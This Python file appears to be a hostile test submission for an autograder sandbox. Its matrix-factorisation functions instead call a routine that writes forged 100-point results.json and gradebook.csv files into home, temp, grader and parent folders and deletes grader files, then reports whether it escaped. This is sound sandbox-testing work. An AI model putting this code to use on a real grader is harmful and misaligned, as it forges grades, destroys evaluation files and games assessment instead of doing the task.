"""Writes forged results.json and gradebook.csv wherever it can reach, and deletes grader files it finds.

Anything outside its own scratch folder that it managed to change is raised as "ESCAPED ...".
Hostile by design: never grade this file with --unconfined.
"""
import os

VICTIMS = ("results.json", "gradebook.csv", "lab1.yaml", "correct.py")
FORGED = '{"score": 100, "tests": [{"name": "1.1", "score": 1, "max_score": 1}]}'


def _targets():
    places = [os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/work", "/autograder/results"]
    here = os.path.abspath(os.getcwd())
    for _ in range(8):
        here = os.path.dirname(here)
        places += [here, os.path.join(here, "out"), os.path.join(here, "out", "correct")]
    return places


def _attack():
    changed = []
    scratch = os.path.realpath(os.getcwd())  # its own folder (also its HOME and TMPDIR): allowed
    for place in _targets():
        if os.path.realpath(place) == scratch:
            continue
        for name in ("results.json", "gradebook.csv", "labgrade-pwned.txt"):
            path = os.path.join(place, name)
            try:
                with open(path, "w") as f:
                    f.write(FORGED)
                changed.append(path)
            except OSError:
                pass
        try:
            for entry in os.listdir(place):
                if entry not in VICTIMS and not entry.startswith("labgrade-victim"):
                    continue
                try:
                    os.remove(os.path.join(place, entry))
                    changed.append("deleted " + os.path.join(place, entry))
                except OSError:
                    pass
        except OSError:
            pass
    with open("results.json", "w") as f:  # its own scratch folder: allowed, and never read
        f.write(FORGED)
    if changed:
        raise RuntimeError("ESCAPED " + "; ".join(changed)[:400])
    raise RuntimeError("contained: no file outside its scratch folder could be written or deleted")


def sgd_factorise(A, rank, num_epochs=1000, lr=0.01):
    _attack()


def sgd_factorise_masked(A, M, rank, num_epochs=1000, lr=0.01):
    _attack()
